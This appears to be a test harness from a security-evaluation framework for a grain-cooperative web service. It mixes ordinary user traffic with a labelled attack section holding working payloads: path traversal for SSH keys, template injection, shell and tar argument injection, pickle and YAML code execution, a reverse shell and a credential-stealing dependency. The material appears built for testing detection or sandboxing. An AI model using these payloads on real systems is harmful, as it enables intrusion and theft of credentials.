# SPDX-License-Identifier: Apache-2.0
"""A plain ASGI application under uvicorn, with two workers."""
import base64
import json
import os
import pickle
import shutil
import time
import urllib.parse

from attackers import Bomb, in_yaml
import stage

MEMBERS = ["office", "anna", "bertil", "cora", "dag", "Hans Peter", "o.brien",
           "zoe-lu"]
UNITS = {"__init__.py": '''UNITS = {"t": 1, "kg": 0.001, "bu": 0.0272}


def tonnes(text):
    number, unit = text.split()
    return round(float(number) * UNITS[unit], 3)
'''}
UNITS_NEW = {
    "__init__.py": "from scaleunits.parse import tonnes\n",
    "parse.py": '''import json
import pkgutil

UNITS = json.loads(pkgutil.get_data("scaleunits", "data/units.json"))


def tonnes(text):
    number, unit = text.split()
    return round(float(number) * UNITS[unit], 3)
''',
    "data/units.json": '{"t": 1, "kg": 0.001, "bu": 0.0272, "dt": 0.1}'}
HEAD = "member,day,grain,amount,moisture\n"
DAYS = {
    1: {"month": "2026-07",
        "labels": ["accountant-1", "bank", "audit_july"],
        "new": "elin", "place": "north", "people": [
        ("anna", "wheat", "12.5 t", 14.1, "july.csv", "latin1"),
        ("bertil", "rye", "800 kg", 15.2, "field-3.csv", "utf-8"),
        ("cora", "barley", "40 bu", 13.9, "late.csv", "cp1252"),
        ("elin", "wheat", "7 t", 16.0, "first_load.csv", "latin1")],
        "drops": ["scale-0701.csv", "scale-0702.csv", "trailer.json"],
        "buyers": [("mill", "wheat", "/hooks/granary"),
                   ("brewery", "barley", "/in/7/deliveries")]},
    2: {"month": "2026-08",
        "labels": ["tax-office", "accountant-2", "Weber", "hail"],
        "new": "folke", "place": "mill-road", "people": [
        ("bertil", "barley", "9.25 t", 14.4, "august.csv", "utf-8"),
        ("dag", "wheat", "120 bu", 13.2, "lower-meadow.csv", "cp1252"),
        ("anna", "rye", "6100 kg", 15.9, "anna2.csv", "latin1"),
        ("folke", "barley", "3 t", 12.7, "f.csv", "utf-8")],
        "drops": ["scale-0811.csv", "harvester.json", "scale-0812.csv",
                  "night.json"],
        "buyers": [("mill", "rye", "/hooks/granary"),
                   ("bakery", "wheat", "/orders?from=granary"),
                   ("brewery", "barley", "/in/8/deliveries")]},
    3: {"month": "2026-09",
        "labels": ["bank2", "board-meeting", "accountant-3"],
        "new": "gunnar", "place": "station", "people": [
        ("cora", "rye", "11 t", 14.9, "september.csv", "latin1"),
        ("anna", "barley", "2250 kg", 13.3, "rest-of-it.csv", "utf-8"),
        ("dag", "wheat", "5.75 t", 14.8, "dag-9.csv", "cp1252"),
        ("gunnar", "rye", "31 bu", 15.1, "one.csv", "latin1")],
        "drops": ["scale-0903.csv", "boat.json", "scale-0904.csv"],
        "buyers": [("bakery", "wheat", "/orders?from=granary"),
                   ("mill", "rye", "/hooks/granary")]}}


class Member:
    """Somebody with a token, who sends and gets JSON."""

    def __init__(self, browser, name, password=None):
        self.browser = browser
        self.name = name
        self.headers = {}
        self.entered = self.send("POST", "/tokens", {
            "name": name, "password": password or name[::-1]})
        if self.entered[0] == 201:
            token = json.loads(self.entered[1])["token"]
            self.headers = {"Authorization": f"Bearer {token}"}

    def send(self, method, path, value=None, **query):
        data = value if isinstance(value, bytes) else (
            None if value is None else json.dumps(value).encode())
        path = urllib.parse.quote(path) + (
            "?" + urllib.parse.urlencode(query, True) if query else "")
        return self.browser.fetch(path, data, self.headers, method)

    def get(self, path, **query):
        return self.send("GET", path, **query)

    def post(self, path, value):
        return self.send("POST", path, value)

    def upload(self, name, text, encoding="utf-8"):
        mark = "----granary"
        body = "".join(
            f'--{mark}\r\nContent-Disposition: form-data; name="{field}"'
            f"\r\n\r\n{value}\r\n" for field, value in [
                ("encoding", encoding)])
        body += (f'--{mark}\r\nContent-Disposition: form-data; name="file"; '
                 f'filename="{name}"\r\nContent-Type: text/csv\r\n\r\n')
        data = body.encode() + text + f"\r\n--{mark}--\r\n".encode()
        return self.browser.fetch("/uploads", data, {
            **self.headers,
            "Content-Type": f"multipart/form-data; boundary={mark}"})


class AsgiGranary(stage.Service):
    """Deliveries, charts, statements and webhooks (plain ASGI, uvicorn)."""
    packages = ["python3-uvicorn", "python3-databases", "python3-aiosqlite",
                "python3-sqlalchemy", "python3-pydantic", "python3-httpx",
                "python3-matplotlib", "python3-jinja2", "python3-multipart",
                "python3-yaml"]

    def arrange(self):
        stage.write(self.srv / "conf/webhook.key", "not-" + stage.SECRET,
                    0o600)
        for name in ("uploads", "inbox", "cache"):
            (self.srv / "var" / name).mkdir(parents=True)
        self.install("scaleunits", "1.3.0", UNITS)
        self.seed("var/granary.db", self.python, "-m", "granary.prepare",
                  *MEMBERS)
        # The list of fonts, which matplotlib makes when it is first there.
        kept = self.place.parent / "fonts"
        if not kept.exists():
            shutil.copytree(self.srv / "var/cache", kept)
        shutil.copytree(kept, self.srv / "var/cache", dirs_exist_ok=True)

    def arrange_benign(self):
        self.install("scaleunits", "1.3.1", UNITS_NEW)

    def environment(self):
        return {**super().environment(),
                "MPLCONFIGDIR": str(self.srv / "var/cache")}

    def command(self):
        return [self.python, "-m", "uvicorn", "--workers", "2", "--port",
                self.port("web"), "--no-access-log", "granary.app:app"]

    def is_ready(self):
        """The socket is there before the workers."""
        return self.browser().get("/health")[0] == 200

    # ------------------------------------------------------------ ordinary use
    def enter(self, name, password=None):
        member = Member(self.browser(), name, password)
        self.expect_answer(f"{name} enters", member.entered, "token", 201)
        return member

    def joins(self, office, name):
        self.expect_answer(f"{name} joins", office.post("/members", {
            "name": name, "password": name[::-1], "village": "Hill"}),
            '"name"', 201)

    def has_buyer(self, office, name, grain, path):
        site = self.site(name)
        site.page("*", f"{name} is open")
        self.expect_answer(f"buyer {name}", office.post("/buyers", {
            "name": name, "grain": grain, "url": site.url + path}), name, 201)
        self.expect_answer(f"ping {name}", office.get(
            f"/buyers/{name}/ping"), "is open")

    def delivers(self, member, day, grain, amount, moisture, buyers=()):
        before = {name: len(self.site(name).requests) for name in buyers}
        self.expect_answer(f"{member.name} delivers {amount}", member.post(
            "/deliveries", {"day": day, "grain": grain, "amount": amount,
                            "moisture": moisture}), '"net"', 201)
        for name, count in before.items():
            self.expect(f"{name} is told", stage.wait_for(
                lambda name=name, count=count:
                len(self.site(name).requests) > count))

    def sends_list(self, member, name, month, grain, encoding, rows=3):
        text = HEAD + "".join(
            f"{member.name},{month}-{1 + row % 28:02},{grain},"
            f"{3 + row % 9} t,{13 + row % 4}.5\n" for row in range(rows))
        text = text.encode()
        self.expect_answer(f"{name} as {encoding}", member.upload(
            name, text, encoding), f'"rows": {rows}', 201)
        self.expect_answer(f"{name} again", member.get(
            "/uploads", name=name), text)

    def looks(self, member, month, charts):
        page = self.expect_answer("deliveries", member.get("/deliveries"),
                                  "cursor")
        if page:
            self.expect_answer("more of them", member.get(
                "/deliveries", cursor=json.loads(page)["cursor"]), "rows")
        for suffix, kind in charts:
            self.expect_answer(f"chart {kind}.{suffix}", member.get(
                f"/charts/moisture/{month}.{suffix}", kind=kind),
                {"png": b"\x89PNG", "svg": b"<svg"}[suffix])

    def drops(self, place, name, rows):
        """A weighbridge makes a file. rows: of members, grains, amounts."""
        if name.endswith(".json"):
            text = json.dumps([dict(zip(HEAD.strip().split(","), row))
                               for row in rows])
        else:
            text = HEAD + "".join(",".join(map(str, row)) + "\n"
                                  for row in rows)
        target = self.srv / "var/inbox" / place / name
        hidden = stage.write(target.with_name(f".{name}.part"), text)
        hidden.rename(target)

    def imported(self, office, name):
        """What is said of a file, once it is there."""
        found = []

        def is_listed():
            answer = office.get("/imports")
            found[:] = [row for row in json.loads(answer[1])
                        if answer[0] == 200 and row["file"] == name]
            return found
        stage.wait_for(is_listed, 8)
        self.expect(f"{name} imported", found)
        return found[0] if found else {}

    def closes(self, office, month, members, note):
        self.expect_answer(f"month {month}", office.post("/statements", {
            "month": month, "note": note}), "written", 201)
        for member in members:
            for suffix, text in (("txt", "Statement of"), ("csv", "day,gra")):
                self.expect_answer(
                    f"statement of {member.name}", member.get(
                        f"/statements/{month}.{suffix}"), text)

    def changes(self, office, name, value):
        """A setting, which both workers know soon."""
        self.expect_answer(f"setting {name}", office.send(
            "PUT", "/settings", json.dumps({name: value}).encode()), "saved")
        self.expect(f"{name} is {value}", stage.wait_for(
            lambda: all(json.loads(office.get("/settings")[1]).get(
                name) == value for _ in range(4))))

    def train(self, day):
        plan = DAYS[day]
        month, place = plan["month"], plan["place"]
        office = self.enter("office")
        self.joins(office, plan["new"])
        self.expect_answer("joined already", office.post("/members", {
            "name": "anna", "password": "x"}), "is a member", 409)
        for name, grain, path in plan["buyers"]:
            self.has_buyer(office, name, grain, path)
        members = []
        for number, (name, grain, amount, moisture, file, encoding) in (
                enumerate(plan["people"], 1)):
            member = self.enter(name)
            members.append(member)
            self.delivers(member, f"{month}-0{number}", grain, amount,
                          moisture, [buyer for buyer, wanted, _
                                     in plan["buyers"] if wanted == grain])
            self.delivers(member, f"{month}-1{day + number}", grain, "2 t",
                          14.5)
            self.sends_list(member, file, month, grain, encoding)
            self.looks(member, month, [
                ("png", "line"), ("svg", "bars"), ("png", "bars"),
                ("svg", "line")][number % 3:][:2])
            self.expect_answer("quote", member.post("/quote", {
                "grain": grain, "tonnes": number + day,
                "formula": "tonnes * price * 0.9" + str(number)}), "value")
        self.sends_list(members[0], f"{month[:4]}/all-of-{month}.csv",
                        month, "rye", "latin1", rows=900)
        self.sends_list(members[1], f"{place}/again.csv", month, "wheat",
                        "utf-8")
        for number, file in enumerate(plan["drops"]):
            self.drops(place if number else place + "-annex", file, [
                (member.name, f"{month}-2{number}", "wheat",
                 f"{number + 1} t", 14) for member in members])
            self.imported(office, file)
        self.drops(place, f"broken-{day}.csv", [("anna", "someday", "rye",
                                                 "1 t", 14)])
        self.imported(office, f"broken-{day}.csv")
        self.changes(office, "page", 20 + day)
        self.changes(office, "hook_timeout", 4 + day)
        self.closes(office, month, members, "Thank you, {{ member }}.")
        self.restart()
        self.closes(office, month, members[:2], "Corrected {{ total }}")
        for number, label in enumerate([month, *plan["labels"]]):
            self.expect_answer(f"bundle {label}", office.get(
                f"/bundles/{label}", member=[
                    member.name for member in members[:2 + number % 2]]),
                b"\x1f\x8b")
        for _ in range(day + 2):
            self.expect_answer("backup", office.post("/backup", {}),
                               "granary-", 201)
        self.stumbles(members[-1], day)
        self.expect_answer(f"{members[0].name} leaves", members[0].send(
            "DELETE", "/tokens"), "left")

    def stumbles(self, member, day):
        """Ordinary mistakes."""
        visitor = self.browser()
        self.expect_answer("stranger", visitor.get("/deliveries"), status=401)
        self.expect_answer("no such page", visitor.get(f"/page{day}"),
                           status=404)
        self.expect_answer("wrong method", visitor.get("/tokens"), status=405)
        self.expect_answer("wrong password", Member(
            visitor, "anna", f"wrong{day}").entered, status=403)
        self.expect_answer("too wet", member.post("/deliveries", {
            "day": "2026-07-01", "grain": "rye", "amount": "1 t",
            "moisture": 90 + day}), "less than", 422)
        self.expect_answer("not for members", member.get("/imports"),
                           status=403)
        self.expect_answer("no upload", member.get(
            "/uploads", name=f"never-{day}.csv"), status=404)
        self.expect_answer("no statement", member.get(
            f"/statements/2019-0{day}.txt"), status=404)
        self.expect_answer("wrong formula", member.post("/quote", {
            "grain": "rye", "tonnes": 1, "formula": "tons * price"}),
            "NameError", 500)

    def benign(self):
        office = self.enter("office")
        self.joins(office, "Åsa von Berg")
        self.has_buyer(office, "mill", "rye", "/v2/hooks/granary?key=a.b")
        self.has_buyer(office, "brewery", "wheat", "/in/11/deliveries")
        members = []
        for name, month, grain, amount, file, encoding in (
                ("Hans Peter", "2027-11", "wheat", "18.25 t",
                 "Ernte 2027 (Kopie).csv", "latin1"),
                ("o.brien", "2027-11", "oats", "950 kg",
                 "field.north.2027.csv", "iso-8859-15"),
                ("zoe-lu", "2031-02", "rye", "77 bu", "UPPER_CASE.CSV",
                 "utf-8"),
                ("Åsa von Berg", "2031-02", "spelt", "0.4 t", "å.txt",
                 "cp1252")):
            member = self.enter(name)
            members.append(member)
            self.delivers(member, f"{month}-28", grain, amount, 14.2, {
                "rye": ["mill"], "wheat": ["brewery"]}.get(grain, ()))
            self.sends_list(member, file, month, grain, encoding, rows=5)
            self.looks(member, month, [("svg", "line"), ("png", "bars")])
            self.expect_answer("quote", member.post("/quote", {
                "grain": grain, "tonnes": 3.5,
                "formula": "max(tonnes - 1, 0) * price"}), "value")
        self.looks(members[0], "2027-11", [("png", "box")])
        self.looks(members[1], "2031-12", [("svg", "bars")])
        self.sends_list(members[2], "2031/spring/long.csv", "2031-02",
                        "barley", "latin1", rows=2500)
        for place, file in (("south", "scale-1128.csv"),
                            ("mill-road/gate 2", "scale-1129.v2.csv"),
                            ("north", "Wagen Nr. 7.json"),
                            ("north/2027/w48", "trailer.json")):
            self.drops(place, file, [(member.name, "2027-11-29", "barley",
                                      "1.5 t", 13) for member in members])
            self.expect(f"{file} was right", self.imported(
                office, file).get("rows") == 4)
        self.drops("south", "odd.json", [("anna", "2027-11-29", "maize",
                                          "1 t", 14)])
        self.imported(office, "odd.json")
        self.changes(office, "page", 7)
        self.changes(office, "prices", {
            "wheat": 220, "rye": 190, "barley": 201, "oats": 180,
            "spelt": 399.5})
        self.closes(office, "2027-11", members[:2], "Grüße, {{ member }}!")
        self.closes(office, "2031-02", members[2:], "")
        for label in ("tax 2027", "Q4.2031"):
            self.expect_answer(f"bundle {label}", office.get(
                f"/bundles/{label}", member=[m.name for m in members]),
                b"\x1f\x8b")
        for _ in range(5):
            self.expect_answer("backup", office.post("/backup", {}),
                               "granary-", 201)
        self.mistakes(office, members[1])
        for name in MEMBERS * 6:  # the logs are rotated
            self.enter(name)
        self.restart()
        office = self.enter("office")
        self.drops("north", "after.csv", [("dag", "2027-12-01", "rye", "2 t",
                                           14)])
        self.imported(office, "after.csv")
        member = self.enter("zoe-lu")
        self.looks(member, "2031-02", [("png", "line")])
        self.expect_answer("leaves", member.send("DELETE", "/tokens"), "left")

    def mistakes(self, office, member):
        self.expect_answer("divided by nothing", member.post("/quote", {
            "grain": "oats", "tonnes": 0, "formula": "price / tonnes"}),
            "ZeroDivisionError", 500)
        self.expect_answer("no such grain", member.post("/deliveries", {
            "day": "2027-11-01", "grain": "millet", "amount": "1 t",
            "moisture": 14}), "ModuleNotFoundError", 500)
        self.expect_answer("no such unit", member.post("/deliveries", {
            "day": "2027-11-01", "grain": "rye", "amount": "1 sack",
            "moisture": 14}), "KeyError", 500)
        self.expect_answer("no such upload", member.get(
            "/uploads", name="2026/none at all.csv"), status=404)
        self.expect_answer("no such encoding", member.upload(
            "ebc.csv", HEAD.encode(), "ebcdic-none"), "iconv", 400)
        self.expect_answer("no such buyer", office.get(
            "/buyers/nobody/ping"), status=404)
        self.expect_answer("bad settings", office.send(
            "PUT", "/settings", b"- a\n- list\n"), "ValueError", 500)
        self.expect_answer("no chart", member.get(
            "/charts/moisture/2027-11.bmp"), status=404)
        self.expect_answer("no JSON", member.send(
            "POST", "/deliveries", b"{"), status=422)
        self.expect_answer("favicon", self.browser().get("/favicon.ico"),
                           status=404)

    def health(self):
        member = self.enter("anna")
        self.delivers(member, "2026-07-01", "wheat", "12.5 t", 14.1)
        self.sends_list(member, "july.csv", "2026-07", "wheat", "latin1")
        self.looks(member, "2026-07", [("png", "line")])

    # ----------------------------------------------------------------- attacks
    def gets(self, name):
        return self.enter("anna").get("/uploads", name=name)[1]

    def sends_file(self, name, text):
        self.enter("anna").upload(name, text)

    def counts(self, formula):
        return self.enter("anna").post("/quote", {
            "grain": "rye", "tonnes": 1, "formula": formula})[1]

    def pages(self, *call):
        self.enter("anna").get("/deliveries", cursor=base64.urlsafe_b64encode(
            pickle.dumps(Bomb(*call))).decode())

    def pings(self, url):
        office = self.enter("office")
        office.post("/buyers", {"name": "mill", "grain": "rye", "url": url})
        return office.get("/buyers/mill/ping")

    def renders(self, code):
        """code: an expression, in the note of a statement."""
        member, office = self.enter("anna"), self.enter("office")
        member.post("/deliveries", {"day": "2026-07-01", "grain": "wheat",
                                    "amount": "1 t", "moisture": 14})
        office.post("/statements", {"month": "2026-07", "note":
                    "{{ cycler.__init__.__globals__.__builtins__." + code
                    + " }}"})
        return member.get("/statements/2026-07.txt")

    @stage.attack("traversal")
    def upload_is_a_private_key(self):
        self.sends_file("july.csv", HEAD.encode())
        return self.is_told(self.gets("../../../../home/.ssh/id_rsa"))

    @stage.attack("source disclosure")
    def upload_is_the_source(self):
        return b"HOLE" in self.gets(f"{self.srv}/granary/inbox.py")

    @stage.attack("secret disclosure")
    def upload_is_the_key_of_the_hooks(self):
        return self.is_told(self.gets("../../../conf/webhook.key"))

    @stage.attack("write to code", fresh=True)
    def upload_becomes_a_grain(self):
        def use(line):
            self.sends_file("../../../grains/evil.py",
                            f"import os\nos.system('{line}')\n".encode())
            for _ in range(8):  # a worker may not see a new file at once
                self.enter("anna").post("/deliveries", {
                    "day": "2026-07-01", "grain": "evil", "amount": "1 t",
                    "moisture": 14})
                time.sleep(0.2)
        return self.runs_line(use)

    @stage.attack("write to start-up file", fresh=True)
    def upload_becomes_a_pth_file(self):
        self.sends_file(f"{self.site_packages}/x.pth", b"import os")
        return (self.site_packages / "x.pth").exists()

    @stage.attack("template injection")
    def note_reads_a_password(self):
        return self.template_reads(self.renders)

    @stage.attack("exfiltration")
    def note_sends_credentials(self):
        return self.template_steals(self.renders)

    @stage.attack("SSRF")
    def buyer_is_an_internal_service(self):
        return self.fetches_inside(self.pings)

    @stage.attack("SSRF")
    def buyer_sends_on_inside(self):
        return self.is_redirected_inside("mill", self.pings)

    @stage.attack("command injection")
    def encoding_runs_a_command(self):
        return self.runs_line(lambda line: self.enter("anna").upload(
            "july.csv", HEAD.encode(), f"latin1 /dev/null; {line};"))

    @stage.attack("argument injection")
    def bundle_runs_a_checkpoint(self):
        self.renders("str(1)")
        return self.runs_line(lambda line: self.enter("office").get(
            "/bundles/x", member=["anna", "--checkpoint=1",
                                  f"--checkpoint-action=exec={line}"]))

    @stage.attack("unsafe pickle")
    def cursor_runs_a_command(self):
        return self.runs_line(lambda line: self.pages(os.system, line))

    @stage.attack("unsafe yaml")
    def settings_run_a_command(self):
        return self.runs_line(lambda line: self.enter("office").send(
            "PUT", "/settings", in_yaml(
                f"__import__('os').system({line!r})").replace(
                    "apply:exec", "apply:eval").encode()))

    @stage.attack("reverse shell")
    def cursor_calls_home(self):
        return self.calls_home(lambda code: self.pages(exec, code))

    @stage.attack("fork+exec")
    def formula_forks(self):
        return self.forks(lambda code: self.counts(f"exec({code!r})"))

    @stage.attack("ctypes")
    def formula_calls_libc(self):
        return self.runs_libc(self.counts)

    @stage.attack("symlink swap", fresh=True)
    def dropped_file_is_a_link(self):
        path = self.srv / "var/inbox/north/scale-0701.csv"
        path.parent.mkdir(parents=True)
        path.symlink_to(self.place / "payroll/2026.csv")
        found = self.imported(self.enter("office"), path.name)
        return self.is_told(found.get("error", ""))

    @stage.attack("malicious dependency", fresh=True)
    def scaleunits_sends_credentials(self):
        return self.dependency_steals("scaleunits", "1.3.2", UNITS,
                                      self.restart)
